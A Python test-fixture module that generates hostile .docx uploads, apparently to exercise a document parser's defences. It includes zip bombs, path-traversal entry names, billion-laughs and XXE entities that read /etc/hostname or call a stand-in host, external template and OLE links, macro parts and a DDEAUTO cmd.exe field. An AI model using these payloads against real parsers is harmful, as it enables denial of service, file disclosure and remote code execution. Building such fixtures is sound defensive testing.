"""Hostile Word documents, made the same way every time: zips that lie, XML that swells, parts that do something."""

import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from io import BytesIO
from warnings import catch_warnings

from PIL import Image

from tests import uploads

WORD = uploads.word()
TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships/"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
PARTS = (
    "word/document.xml",
    "word/styles.xml",
    "word/settings.xml",
    "word/_rels/document.xml.rels",
    "[Content_Types].xml",
    "_rels/.rels",
    "docProps/core.xml",
)
DOCUMENT_RELS = "word/_rels/document.xml.rels"


def pointing(kind: str, target: str, *, outside: bool = False, more: dict[str, bytes] | None = None) -> bytes:
    """A document with one relationship more, `kind` a word or a whole type."""
    whole = kind if "/" in kind else TYPE + kind
    mode = ' TargetMode="External"' if outside else ""
    row = f'<Relationship Id="rId99" Type="{whole}" Target="{target}"{mode}/></Relationships>'
    rels = uploads.part(WORD, DOCUMENT_RELS).decode().replace("</Relationships>", row)
    return uploads.repacked(WORD, {DOCUMENT_RELS: rels.encode(), **(more or {})})


def paragraphs(xml: str) -> bytes:
    return uploads.repacked(WORD, {"word/document.xml": uploads.document_part(xml)})


def document(xml: bytes) -> bytes:
    return uploads.repacked(WORD, {"word/document.xml": xml})


def _zips() -> Iterator[tuple[str, bytes]]:
    good = WORD
    yield "one-bomb", uploads.repacked(good, {"word/x.bin": bytes(60_000_000)})
    yield "one-bomb-of-xml", uploads.repacked(good, {"word/document.xml": b"<w>" + b" " * 60_000_000 + b"</w>"})
    inner = BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a", bytes(50_000_000))
    nested = inner.getvalue()
    for depth in range(4):
        nested = uploads.repacked(good, {f"word/embeddings/{depth}.docx": nested})
        yield f"a-bomb-{depth + 1}-deep", nested
    yield "ten-bombs-just-small-enough", uploads.repacked(good, {f"word/{n}.bin": b"ab" * 3_000_000 for n in range(18)})
    for count in (900, 5_000, 20_000):
        yield f"{count}-parts", uploads.repacked(good, {f"word/{n}": b"" for n in range(count)}, zipfile.ZIP_STORED)
    yield "parts-on-top-of-each-other", _overlapping(good)
    for name in (
        "../x.xml",
        "/x.xml",
        "..\\x.xml",
        "C:\\x.xml",
        "word/../../x.xml",
        "word\\document.xml",
        "WORD/DOCUMENT.XML",
        "x\x00.xml",
        "a" * 60_000,
        "word/./document.xml",
        "word//document.xml",
        "\u202egpj.xml",
    ):
        yield f"named-{name[:20].encode().hex()}", uploads.repacked(good, {name: b"<x/>"})
    for name in ("word/document.xml", "[Content_Types].xml"):
        with_two = BytesIO(good)
        with zipfile.ZipFile(with_two, "a") as archive, catch_warnings(action="ignore"):  # zipfile only warns
            archive.writestr(zipfile.ZipInfo(name), b"<x/>")
        yield f"twice-{name.strip('[]')}", with_two.getvalue()
    for compression in (zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA):
        yield f"compressed-{compression}", uploads.repacked(good, {}, compression)
    locked = bytearray(good)
    for at in _places(good, b"PK\x01\x02"):
        locked[at + 8] |= 1
    yield "locked", bytes(locked)
    for offset, value in ((20, 1), (24, 2**31), (24, 5), (42, 2**31), (42, 1)):
        lying = bytearray(good)
        for at in _places(good, b"PK\x01\x02"):
            struct.pack_into("<I", lying, at + offset, value)
        yield f"lying-{offset}-{value}", bytes(lying)
    for part in range(1, 10):
        yield f"cut-at-{part}0-percent", good[: len(good) * part // 10]
    yield "something-behind-it", good + b"geheim" * 100
    yield "a-pdf-behind-it", good + uploads.pdf()
    yield "a-zip-behind-it", good + good
    yield "a-program-before-it", b"MZ" + good
    yield "a-comment-that-is-a-zip", _commented(good, good[:30_000])
    yield "a-pdf-in-its-first-part", uploads.repacked(_first(b"%PDF-1.7 hallo"), {})


def _places(content: bytes, mark: bytes) -> Iterator[int]:
    at = content.find(mark)
    while at >= 0:
        yield at
        at = content.find(mark, at + 4)


def _commented(content: bytes, comment: bytes) -> bytes:
    target = BytesIO(content)
    with zipfile.ZipFile(target, "a") as archive:
        archive.comment = comment
    return target.getvalue()


def _first(part: bytes) -> bytes:
    target = BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr("a.bin", part)
        for name in PARTS:
            archive.writestr(name, uploads.part(WORD, name))
    return target.getvalue()


def _overlapping(good: bytes) -> bytes:
    """A directory of which two hundred rows point at one large part."""
    with zipfile.ZipFile(BytesIO(good)) as archive:
        begin = archive.start_dir
    press = zlib.compressobj(9, wbits=-15)
    packed = press.compress(bytes(9_000_000)) + press.flush()
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 33, 0, len(packed), 9_000_000, 1, 0) + b"a" + packed
    rows = b"".join(
        struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 33, 0, len(packed), 9_000_000, 5, 0, 0, 0, 0, 0, begin)
        + f"a{n:04}".encode() for n in range(200)
    )  # fmt: skip
    kept = good[begin : good.rfind(b"PK\x05\x06")]
    count = kept.count(b"PK\x01\x02") + 200
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(kept) + len(rows), begin + len(local), 0)
    return good[:begin] + local + kept + rows + end


def _entities() -> Iterator[tuple[str, bytes]]:
    laughs = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))
    kinds = {
        "laughs": f'<!DOCTYPE w [<!ENTITY a0 "ha">{laughs}]><w>&a11;</w>',
        "one-long-word": f'<!DOCTYPE w [<!ENTITY a "{"ha" * 50_000}">]><w>{"&a;" * 5_000}</w>',
        "a-file": '<!DOCTYPE w [<!ENTITY a SYSTEM "file:///etc/hostname">]><w>&a;</w>',
        "an-address": '<!DOCTYPE w [<!ENTITY a SYSTEM "http://elders.example/a">]><w>&a;</w>',
        "a-type-elsewhere": '<!DOCTYPE w SYSTEM "http://elders.example/a.dtd"><w/>',
        "a-parameter": '<!DOCTYPE w [<!ENTITY % a SYSTEM "http://elders.example/a.dtd">%a;]><w/>',
        "itself": '<!DOCTYPE w [<!ENTITY a "&b;"><!ENTITY b "&a;">]><w>&a;</w>',
    }
    for part in PARTS:
        for name, xml in kinds.items():
            yield (
                f"{name}-in-{part.rpartition('/')[2].strip('[]')}",
                uploads.repacked(WORD, {part: f'<?xml version="1.0"?>{xml}'.encode()}),
            )
    wide = '<?xml version="1.0" encoding="UTF-16"?>' + kinds["laughs"]
    yield "laughs-in-wide-letters", uploads.repacked(WORD, {"word/document.xml": wide.encode("utf-16")})
    body = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/hostname" parse="text"/>'
    yield "an-inclusion", paragraphs(f"<w:p><w:r><w:t>{body}</w:t></w:r></w:p>")


def _swollen() -> Iterator[tuple[str, bytes]]:
    """No two words are alike, so that a zip can't tell by its ratio."""

    def words(count: int, form: str) -> str:
        return "".join(form.format(f"{number * 2654435761 % 2**32:x}") for number in range(count))

    word, cell = "<w:p><w:r><w:t>{}</w:t></w:r></w:p>", "<w:tc><w:p><w:r><w:t>{}</w:t></w:r></w:p></w:tc>"
    yield "a-hundred-thousand-paragraphs", paragraphs(words(100_000, word))
    runs = words(100_000, '<w:r w:a="{}"/>')
    yield "a-hundred-thousand-runs", paragraphs(f"<w:p>{runs}</w:p>")
    yield (
        "a-table-of-thirty-thousand-cells",
        paragraphs("<w:tbl>" + f"<w:tr>{words(60, cell)}</w:tr>" * 500 + "</w:tbl>"),
    )
    yield "a-row-of-sixty-thousand-cells", paragraphs(f"<w:tbl><w:tr>{words(60_000, cell)}</w:tr></w:tbl>")
    nested = "<w:p/>"
    for _ in range(45):
        nested = f"<w:tbl><w:tr><w:tc>{nested}</w:tc></w:tr></w:tbl>"
    yield "tables-within-tables", paragraphs(nested)
    yield "elements-within-elements", document(b"<w>" * 200_000 + b"</w>" * 200_000)
    yield "a-hundred-thousand-attributes", document(b"<w " + b" ".join(b'a%d=""' % n for n in range(100_000)) + b"/>")
    yield "an-attribute-of-nineteen-million", document(b'<w a="' + b"ab" * 9_500_000 + b'"/>')
    yield "a-word-of-nineteen-million", document(b"<w>" + b"ab" * 9_500_000 + b"</w>")
    spaces = b"".join(b'<x:a xmlns:x="u%d"/>' % n for n in range(100_000))
    yield "a-hundred-thousand-namespaces", document(b"<w>" + spaces + b"</w>")
    pointers = b"".join(b'<Relationship Id="r%d" Type="a/styles" Target="styles.xml"/>' % n for n in range(100_000))
    opened = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    yield (
        "a-hundred-thousand-pointers",
        uploads.repacked(WORD, {DOCUMENT_RELS: opened + pointers + b"</Relationships>"}),
    )
    fields = words(50_000, '<w:r><w:fldChar w:fldCharType="begin"/><w:instrText>{}</w:instrText></w:r>')
    yield "fifty-thousand-open-fields", paragraphs(f"<w:p>{fields}</w:p>")
    notes = words(50_000, '<w:comment w:author="{0}"><w:p><w:r><w:t>{0}</w:t></w:r></w:p></w:comment>')
    yield (
        "fifty-thousand-notes",
        uploads.repacked(WORD, {"word/comments.xml": f"<w:comments {W}>{notes}</w:comments>".encode()}),
    )


def _loops() -> Iterator[tuple[str, bytes]]:
    yield "a-document-that-is-its-own-header", pointing("header", "document.xml")
    yield (
        "a-header-that-points-back",
        pointing(
            "header",
            "h.xml",
            more={
                "word/h.xml": f"<w:hdr {W}><w:p/></w:hdr>".encode(),
                "word/_rels/h.xml.rels": uploads.part(WORD, DOCUMENT_RELS).replace(b"styles.xml", b"document.xml"),
            },
        ),
    )
    styles = f'<w:styles {W}><w:style w:styleId="A"><w:basedOn w:val="B"/></w:style><w:style w:styleId="B"><w:basedOn w:val="A"/></w:style></w:styles>'
    yield "styles-of-each-other", uploads.repacked(WORD, {"word/styles.xml": styles.encode()})
    yield (
        "a-package-that-is-its-document",
        uploads.repacked(
            WORD,
            {"_rels/.rels": uploads.part(WORD, "_rels/.rels").replace(b"word/document.xml", b"_rels/.rels")},
        ),
    )
    yield "pointers-out-of-the-package", pointing("header", "../../../../etc/passwd")
    yield (
        "pointers-without-a-name",
        uploads.repacked(WORD, {DOCUMENT_RELS: uploads.part(WORD, DOCUMENT_RELS).replace(b'Id="rId1"', b'Id=""')}),
    )
    yield (
        "two-documents",
        uploads.repacked(
            WORD,
            {"_rels/.rels": uploads.part(WORD, "_rels/.rels").replace(b"extended-properties", b"officeDocument")},
        ),
    )


def _doing() -> Iterator[tuple[str, bytes]]:
    for kind in (
        "attachedTemplate",
        "oleObject",
        "image",
        "frame",
        "subDocument",
        "aFChunk",
        "externalLink",
        "mailMergeSource",
    ):
        yield f"{kind.lower()}-from-outside", pointing(kind, "https://elders.example/a", outside=True)
    for kind in ("oleObject", "package", "control", "aFChunk", "subDocument", "AFCHUNK"):
        yield f"{kind}-inside", pointing(kind, "embeddings/a.bin", more={"word/embeddings/a.bin": b"inhoud"})
    for kind in ("vbaProject", "wordVbaData", "attachedToolbars", "keyMapCustomizations", "ui/extensibility"):
        yield (
            f"macros-{kind.replace('/', '-').lower()}",
            pointing(MICROSOFT + kind, "a.bin", more={"word/a.bin": b"inhoud"}),
        )
    yield "macros-without-a-pointer", uploads.repacked(WORD, {"word/vbaProject.bin": OLE})
    types = uploads.part(WORD, "[Content_Types].xml")
    plain = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    for other in (
        "vnd.ms-word.document.macroEnabled.main+xml",
        "vnd.ms-word.template.macroEnabledTemplate.main+xml",
        "vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml",
        "vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
    ):
        yield (
            f"really-{other.rpartition('.')[0].rpartition('.')[2].lower()}",
            uploads.repacked(WORD, {"[Content_Types].xml": types.replace(plain, b"application/" + other.encode())}),
        )
    for name, part in {
        "ole": OLE,
        "zip": WORD,
        "pdf": uploads.pdf(),
        "program": b"MZ" + bytes(90),
        "rtf": b"{\\rtf1}",
    }.items():
        yield f"{name}-without-a-pointer", uploads.repacked(WORD, {"word/media/image1.png": part})
    for told in (
        "DDEAUTO c:\\\\windows\\\\cmd.exe",
        "INCLUDETEXT https://elders.example/a",
        "INCLUDEPICTURE https://elders.example/a",
        "MACROBUTTON a b",
        "IMPORT a",
    ):
        run = f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{told}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        yield f"field-{told.split()[0].lower()}", paragraphs(run)
    yield (
        "a-chunk-without-a-pointer",
        paragraphs('<w:altChunk r:id="rId77"/><w:object><o:OLEObject Type="Embed" r:id="rId78"/></w:object>'),
    )


def _pictures() -> Iterator[tuple[str, bytes]]:
    def png(width: int, height: int, data: bytes) -> bytes:
        def chunk(kind: bytes, body: bytes) -> bytes:
            return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

        head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
        return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b"")

    moving = BytesIO()
    Image.new("L", (8, 8)).save(moving, "PNG", save_all=True, append_images=[Image.new("L", (8, 8), 255)])
    made: dict[str, Callable[[], bytes]] = {
        "of-a-billion": lambda: png(2**31 - 1, 2**31 - 1, b""),
        "of-nothing": lambda: png(0, 0, b""),
        "just-small-enough-and-empty": lambda: png(7_000, 7_000, zlib.compress(bytes(1_000))),
        "full-of-zeros": lambda: png(100, 100, zlib.compress(bytes(100_000_000), 9)),
        "moving": moving.getvalue,
        "cut-short": lambda: uploads.png()[:60],
        "a-jpeg-cut-short": lambda: uploads.jpeg()[:60],
        "a-jpeg-of-four-thousand-million": lambda: uploads.jpeg().replace(
            b"\x00\x10\x00\x18\x03", b"\xff\xff\xff\xff\x03"
        ),
        "a-jpeg-of-markers": lambda: b"\xff\xd8\xff" + b"\xff\xe0\x00\x02" * 500_000,
    }
    for name, make in made.items():
        yield name, pointing("image", "media/a.png", more={"word/media/a.png": make()})
    many = {f"word/media/{n}.png": png(7_000, 7_000, zlib.compress(bytes(7_001 * 7_000), 9)) for n in range(6)}
    yield "six-large-ones", uploads.repacked(WORD, many)


def _others() -> Iterator[tuple[str, bytes]]:
    yield "an-old-document", OLE
    yield "locked-in-an-old-document", OLE + "EncryptedPackage".encode("utf-16-le")
    empty = BytesIO()
    with zipfile.ZipFile(empty, "w") as archive:
        archive.writestr("mimetype", b"application/vnd.oasis.opendocument.text")
    yield "another-office", empty.getvalue()
    yield "a-zip-of-nothing", b"PK\x05\x06" + bytes(18)
    for part in PARTS:
        yield f"without-{part.rpartition('/')[2].strip('[]')}", uploads.repacked(WORD, {part: None})
        yield (
            f"broken-{part.rpartition('/')[2].strip('[]')}",
            uploads.repacked(WORD, {part: uploads.part(WORD, part)[:-9] + b"\xff\xfe\x00"}),
        )
    strict = uploads.part(WORD, "word/document.xml").replace(
        b"schemas.openxmlformats.org/wordprocessingml/2006", b"purl.oclc.org/ooxml/wordprocessingml"
    )
    yield "another-kind-of-word", uploads.repacked(WORD, {"word/document.xml": strict})


WORD_FAMILIES = {
    "docx-zips": _zips,
    "docx-entities": _entities,
    "docx-swollen": _swollen,
    "docx-loops": _loops,
    "docx-doing": _doing,
    "docx-pictures": _pictures,
    "docx-others": _others,
}
